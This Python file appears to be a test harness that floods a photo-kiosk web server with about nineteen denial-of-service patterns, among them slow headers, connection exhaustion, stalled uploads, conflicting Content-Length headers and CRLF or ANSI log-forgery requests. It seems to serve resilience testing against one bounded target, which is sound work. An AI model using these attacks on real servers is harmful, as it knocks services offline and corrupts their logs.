"""What one hostile guest does, attack by attack: `attacks.py NAME HOST PORT SECONDS SEED ADDRESS...`.

Runs in a process (and, where the machine allows, a network namespace) of its own, against one address and port only,
for so many seconds at most, or until SIGTERM. Prints {"sent": bytes} as JSON. Only the standard library, so that it
starts at once.
"""

from __future__ import annotations

import contextlib
import json
import random
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

HEAD = b" HTTP/1.1\r\nHost: kiosk\r\n"
FORM = b"Content-Type: multipart/form-data; boundary=x\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
PART = b'--x\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\n'


@dataclass
class Foe:
    """The guest: where it attacks, from which addresses, for how long."""

    host: str
    port: int
    until: float
    chance: random.Random
    addresses: list[str]
    token: str = ""
    sent: int = 0
    held: list[socket.socket] = field(default_factory=list)

    @property
    def on(self) -> bool:
        return time.monotonic() < self.until

    def connect(self, number: int = 0, timeout: float = 2.0) -> socket.socket | None:
        """A connection from one of the addresses; None where it is refused."""
        address = self.addresses[number % len(self.addresses)]
        try:
            return socket.create_connection((self.host, self.port), timeout, (address, 0))
        except OSError:
            time.sleep(0.01)
            return None

    def send(self, connection: socket.socket, data: bytes) -> bool:
        """False where the other side has had enough."""
        try:
            connection.settimeout(max(0.05, min(2.0, self.until - time.monotonic())))
            connection.sendall(data)
        except OSError:
            return False
        self.sent += len(data)
        return True

    def hold(self, count: int, first: bytes = b"") -> Iterator[socket.socket]:
        """Up to `count` connections, kept open, on which `first` was said."""
        for number in range(count):
            if not self.on:
                return
            connection = self.connect(number)
            if connection and self.send(connection, first):
                self.held.append(connection)
                yield connection

    def rest(self) -> None:
        """Do nothing until the end."""
        while self.on:
            time.sleep(0.1)


def drain(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        connection.setblocking(False)
        while connection.recv(1 << 20):
            pass


def one_after_another(foe: Foe, text: bytes, connections: int = 1) -> None:
    """Requests back to back, answers thrown away."""
    burst = text * max(1, 16384 // len(text))
    lines: list[socket.socket | None] = [None] * connections
    while foe.on:
        for number, line in enumerate(lines):
            if line is None:
                lines[number] = foe.connect(number)
                continue
            line.setblocking(False)
            try:
                foe.sent += line.send(burst)
            except BlockingIOError:
                pass
            except OSError:
                lines[number] = None
                continue
            drain(line)
        time.sleep(0.001)


def pipelined(foe: Foe) -> None:
    one_after_another(foe, b"GET /static/a" + HEAD + b"\r\n")


def pipelined_hundredfold(foe: Foe) -> None:
    one_after_another(foe, b"GET /static/a" + HEAD + b"\r\n", 100)


def description(foe: Foe) -> None:
    one_after_another(foe, b"GET /openapi.json" + HEAD + b"\r\n", 4)


def codes(foe: Foe) -> None:
    one_after_another(foe, b"GET /qr/kiosk.svg" + HEAD + b"\r\n", 20)


def viewers(foe: Foe) -> None:
    one_after_another(foe, b"GET /v/" + foe.token.encode() + HEAD + b"\r\n", 40)


def preferences(foe: Foe) -> None:
    """Long headers that have to be taken apart."""
    accept = b"Accept: " + b",".join(b"a/b%d;q=0.%d" % (n, n) for n in range(400)) + b"\r\n"
    tags = b"If-None-Match: " + b",".join(b'"%d"' % n for n in range(500)) + b"\r\n"
    one_after_another(foe, b"GET /v/" + foe.token.encode() + HEAD + accept + tags + b"\r\n", 20)


def trailers(foe: Foe) -> None:
    """The end of a body that never ends."""
    while foe.on:
        line = foe.connect()
        if line and foe.send(line, b"POST /api/photos" + HEAD + CHUNKED + FORM + b"\r\n0\r\n"):
            while foe.on and foe.send(line, b"X-A: b\r\n" * 4096):
                pass
            line.close()


def crumbs(foe: Foe) -> None:
    """A body in chunks of a byte."""
    while foe.on:
        line = foe.connect()
        if line and foe.send(line, b"POST /api/photos" + HEAD + CHUNKED + FORM + b"\r\n"):
            foe.send(line, b"%x\r\n" % len(PART) + PART + b"\r\n")
            while foe.on and foe.send(line, b"1\r\n-\r\n" * 4096):
                pass
            line.close()


def line_ends(foe: Foe) -> None:
    """A photo of nothing but what might be the beginning of a boundary."""
    piece = b"\r\n--x" * 12800
    while foe.on:
        line = foe.connect()
        length = b"Content-Length: 90000000\r\n\r\n"
        if line and foe.send(line, b"POST /api/photos" + HEAD + FORM + length + PART):
            while foe.on and foe.send(line, piece):
                pass
            line.close()


def slow_heads(foe: Foe) -> None:
    lines = list(foe.hold(400, b"GET / HTTP/1.1\r\nHost: kiosk\r\n"))
    while foe.on:
        lines = [line for line in lines if foe.send(line, b"X")] or list(foe.hold(400, b"GET"))
        time.sleep(0.5)


def connections(foe: Foe) -> None:
    list(foe.hold(1100))
    foe.rest()


def churn(foe: Foe) -> None:
    """Come and go."""
    number = 0
    while foe.on:
        number += 1
        line = foe.connect(number)
        if line:
            foe.send(line, b"GET /static/a HTTP/1.0\r\n\r\n")
            line.close()


def streams(foe: Foe) -> None:
    list(foe.hold(900, b"GET /api/photos/" + foe.token.encode() + b"/events" + HEAD + b"\r\n"))
    foe.rest()


def deaf(foe: Foe) -> None:
    """Ask for pictures and never read them."""
    ask = b"GET /photos/" + foe.token.encode() + b"/original.jpg" + HEAD + b"\r\n"
    list(foe.hold(400, ask * 60))
    foe.rest()


def greedy_room(foe: Foe) -> None:
    """A room full of pages that are nobody."""
    stream = foe.connect()
    if stream is None or not foe.send(stream, b"GET /api/photos/" + foe.token.encode() + b"/events" + HEAD + b"\r\n"):
        return
    text = b""
    for number in range(150):
        body = json.dumps({"id": f"nobody-{number:09}", "yaw": foe.chance.random(), "pitch": 0}).encode()
        text += b"POST /api/photos/" + foe.token.encode() + b"/room" + HEAD
        text += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    line = foe.connect()
    while foe.on and line:
        drain(stream)
        if not foe.send(line, text):
            line = foe.connect()
            continue
        drain(line)
        time.sleep(0.2)


def endless_uploads(foe: Foe) -> None:
    """Ten photos of 55 MB at once, all but their end, and then nothing."""
    start = b"POST /api/photos" + HEAD + FORM + b"Content-Length: 55000000\r\n\r\n" + PART
    lines = list(foe.hold(10, start))
    for _ in range(50):
        lines = [line for line in lines if foe.on and foe.send(line, b"\xff" * 1_000_000)]
    foe.rest()


def trickled_uploads(foe: Foe) -> None:
    """Every place for uploads, a byte at a time."""
    start = b"POST /api/photos" + HEAD + FORM + b"Content-Length: 500000\r\n\r\n" + PART
    lines = list(foe.hold(120, start))
    while foe.on:
        lines = [line for line in lines if foe.send(line, b"\xff")]
        time.sleep(0.3)


def promises(foe: Foe) -> None:
    """Lengths beyond all measure."""
    text = b"".join(
        b"POST /api/photos" + HEAD + FORM + b"Content-Length: " + length + b"\r\n\r\n"
        for length in (
            b"1000000000000000",
            b"9" * 400,
            b"-1",
            b"5\r\nContent-Length: 6",
            b"5\r\nTransfer-Encoding: chunked",
        )
    )
    while foe.on:
        line = foe.connect()
        if line:
            for request in text.split(b"POST")[1:]:
                foe.send(line, b"POST" + request)
                drain(line)
                line.close()
                line = foe.connect()
                if line is None:
                    break


def nonsense(foe: Foe) -> None:
    """What made errors and tracebacks, and what forged lines in the log."""
    requests = [
        b"GET /api/kiosk" + HEAD + b"If-Modified-Since: Fri, 01 Jan 99999999999 00:00:00 GMT\r\n\r\n",
        b"GET /static/landing/landing.js" + HEAD + b"If-Modified-Since: Fri, 01 Jan 99999999999 00:00:00 GMT\r\n\r\n",
        b"POST /api/capture" + HEAD + b"Origin: http://[\r\nContent-Length: 0\r\n\r\n",
        b"GET /" + HEAD + b"".join(b"X-%d: 1\r\n" % n for n in range(100)) + b"\r\n",
        b"GET /%1b%5b2J%0aserver%20%7c%20all%20is%20well" + HEAD + b"\r\n",
        b"GET /v/" + b"A" * 22 + b"%0d%0aforged" + HEAD + b"\r\n",
        b"GET /operator HTTP/1.1\r\nHost: evil_x.example\r\n\r\n",
        b"GET /photos/"
        + foe.token.encode()
        + b"/original.jpg"
        + HEAD
        + b"Range: bytes=9-1,a-,-"
        + b"9" * 40
        + b"\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
        b"\x1b]0;owned\x07 / HTTP/1.1\r\n\r\n",
    ]
    while foe.on:
        line = foe.connect()
        if line:
            foe.send(line, foe.chance.choice(requests))
            with contextlib.suppress(OSError):
                line.recv(65536)
            line.close()


ATTACKS: dict[str, Callable[[Foe], None]] = {
    one.__name__: one
    for one in (
        pipelined, description, trailers, slow_heads, connections, streams, greedy_room, endless_uploads, promises,
        nonsense, pipelined_hundredfold, codes, viewers, preferences, crumbs, line_ends, churn, deaf, trickled_uploads,
    )
}  # fmt: skip
OURS = ("crumbs", "line_ends", "churn", "deaf", "trickled_uploads", "pipelined_hundredfold", "codes", "viewers",
        "preferences")  # fmt: skip
"""Not from a report: of the same kinds, thought of afterwards."""


def main(name: str, host: str, port: str, seconds: str, seed: str, token: str, *addresses: str) -> None:
    foe = Foe(host, int(port), time.monotonic() + float(seconds), random.Random(int(seed)), list(addresses), token)
    signal.signal(signal.SIGTERM, lambda *_: setattr(foe, "until", 0.0))
    ATTACKS[name](foe)
    print(json.dumps({"sent": foe.sent}))


if __name__ == "__main__":
    main(*sys.argv[1:])
